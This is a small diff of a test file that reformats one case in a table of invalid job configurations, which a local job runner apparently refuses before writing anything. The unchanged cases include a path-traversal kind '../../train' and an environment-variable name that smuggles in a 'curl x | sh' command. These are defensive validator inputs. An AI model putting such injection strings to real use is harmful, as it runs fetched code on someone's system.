@@ -16,7 +16,10 @@ it.each([
   [{ kind: '../../train' }, 'kind'],
   [{ variables: { 'A=1; curl x | sh; B': '' } }, 'env'],
   [{ launcher: { kind: 'torchrun', nproc: 0 } }, 'launcher.nproc'],
-  [{ launcher: { kind: 'slurm', nproc: 1, options: { Partition: 'gpu' } } }, 'launcher.options.Partition'],
+  [
+    { launcher: { kind: 'slurm', nproc: 1, options: { Partition: 'gpu' } } },
+    'launcher.options.Partition',
+  ],
 ])('refuses %j before anything is written', async (change, field) => {
   const root = await emptyFolder();
   const jobs = new LocalJobs({ registry: join(root, 'registry') });
